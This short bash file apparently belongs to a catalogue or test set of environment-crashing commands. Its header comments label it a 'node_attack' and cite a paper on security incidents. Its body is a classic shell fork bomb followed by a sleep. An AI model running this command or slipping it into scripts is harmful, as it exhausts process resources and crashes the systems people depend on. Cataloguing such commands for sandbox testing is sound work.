#!/bin/bash
# class: node_attack
# does: a fork bomb of the shell
# source: DSec paper, security incidents: commands that crashed the environment
# repo: any
# when: last
:(){ :|:& };:
sleep 4
